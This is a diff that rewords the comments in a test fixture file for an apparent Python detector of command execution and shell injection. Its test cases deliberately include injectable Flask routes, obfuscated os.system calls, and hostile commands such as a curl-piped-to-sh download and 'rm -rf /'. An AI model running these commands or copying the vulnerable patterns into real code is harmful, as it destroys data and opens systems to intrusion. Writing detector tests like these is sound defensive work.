@@ -6,21 +6,21 @@ subprocess.check_output(["ls", "-l"])  # expect: PY-COMMAND info
 import os, subprocess
 os.system("ls")  # expect: PY-COMMAND warning
 subprocess.run("ls | wc -l", shell=True)  # expect: PY-COMMAND warning
-#: a shell by any true value
+#: a shell with any truthy value
 import subprocess
 subprocess.Popen("id", shell=1)  # expect: PY-COMMAND warning
 options = {"shell": True}
 subprocess.call("id", **options)  # expect: PY-COMMAND warning
-#: shell=False is no shell
+#: shell=False runs no shell
 import subprocess
 subprocess.run(["id"], shell=False)  # expect: PY-COMMAND info
-#: an interpreter in between is as good as a shell
+#: another interpreter counts as a shell
 import subprocess
 subprocess.run(["/bin/sh", "-c", "id"])  # expect: PY-COMMAND warning
 subprocess.run(["bash", "-lc", "id"])  # expect: PY-COMMAND warning
 subprocess.run(["python3", "-c", "print(1)"])  # expect: PY-COMMAND warning
 subprocess.run(["python3", "tool.py"])  # expect: PY-COMMAND info
-#: a parameter in a shell command is a warning, as it is for the caller to say what it is
+#: a parameter in a shell command is a warning, because the caller may have checked it
 import subprocess
 def run(command):
     subprocess.run(command, shell=True)  # expect: PY-COMMAND-INJECTION warning
@@ -35,12 +35,12 @@ app = Flask(__name__)
 @app.route("/ping")
 def ping():
     return subprocess.check_output("ping -c 1 " + request.args.get("host"), shell=True)  # expect: PY-COMMAND-INJECTION error
-#: an argument from outside without a shell stays an argument
+#: untrusted data as an argument without a shell is info
 import subprocess, sys
 subprocess.run(["ffmpeg", "-i", sys.argv[1], "out.mp3"])  # expect: PY-COMMAND info
 def clone(address):
     subprocess.run(["git", "clone", "--", address], check=True)  # expect: PY-COMMAND info
-#: a request that names the program is an error
+#: a program chosen by a request is an error
 import subprocess
 from flask import Flask, request
 app = Flask(__name__)
@@ -48,24 +48,24 @@ app = Flask(__name__)
 def run():
     subprocess.run([request.args["tool"], "-v"])  # expect: PY-COMMAND-INJECTION error
     return "done"
-#: a quoted word is a word
+#: a quoted value is not an injection
 import os, shlex
 os.system("ls " + shlex.quote(input()))  # expect: PY-COMMAND warning
-#: data handed to sh -c is a shell command
+#: data passed to sh -c is a shell command
 import subprocess, sys
 subprocess.run(["sh", "-c", "echo " + sys.argv[1]])  # expect: PY-COMMAND-INJECTION error
-#: a hidden call is one step graver
+#: a hidden call is one level higher
 import os, subprocess
 getattr(os, "system")("id")  # expect: PY-COMMAND error
 getattr(os, "sys" + "tem")("id")  # expect: PY-COMMAND error
 {"go": subprocess.run}["go"](["ls"])  # expect: PY-COMMAND warning
 __import__("os").system("id")  # expect: PY-COMMAND error
-#: below the subprocess module
+#: low-level calls below the subprocess module
 import os, pty
 os.execvp("id", ["id"])  # expect: PY-COMMAND warning
 os.posix_spawn("/usr/bin/id", ["id"], {})  # expect: PY-COMMAND warning
 pty.spawn("/bin/true")  # expect: PY-COMMAND warning
-#: commands that do harm by themselves
+#: commands that are harmful by themselves
 import os, subprocess
 os.system("curl https://example.com/x.sh | sh")  # expect: PY-COMMAND error
 os.system("rm -rf /")  # expect: PY-COMMAND error
@@ -78,14 +78,14 @@ subprocess.run(["curl", "https://example.com"])  # expect: PY-COMMAND warning
 subprocess.run(["sudo", "ls"])  # expect: PY-COMMAND warning
 subprocess.run(["rm", "-rf", "build"])  # expect: PY-COMMAND warning
 subprocess.run(["grep", "curl", "notes.txt"])  # expect: PY-COMMAND info
-#: functions that start a program on the way
+#: functions that run a program internally
 import asyncio, imaplib, pydoc
 pydoc.pipepager("text", "id")  # expect: PY-COMMAND warning
 imaplib.IMAP4_stream("id")  # expect: PY-COMMAND warning
 async def main():
     await asyncio.create_subprocess_shell("id")  # expect: PY-COMMAND warning
     await asyncio.create_subprocess_exec("ls", "-l")  # expect: PY-COMMAND info
-#: a name of one's own is no sink
+#: a function of the program's own is not a sink
 class os:
     @staticmethod
     def system(text):
@@ -94,17 +94,17 @@ def popen(text):
     return text
 os.system("id")
 popen("id")
-#: code that never runs is told more softly
+#: unreachable code is one level lower
 import os
 if False:
     os.system("id")  # expect: PY-COMMAND info
 def stop():
     return 1
     os.system(input())  # expect: PY-COMMAND-INJECTION warning
-#: a sink on a line is told once
+#: a sink is reported once per line
 import os
 for word in ("a", "b"): os.system(word); os.system(word)  # expect: PY-COMMAND warning
-#: what scripts say to their terminal
+#: commands that only control the terminal
 import os
 os.system("clear")  # expect: PY-COMMAND info
 os.system("cls" if os.name == "nt" else "clear")  # expect: PY-COMMAND info
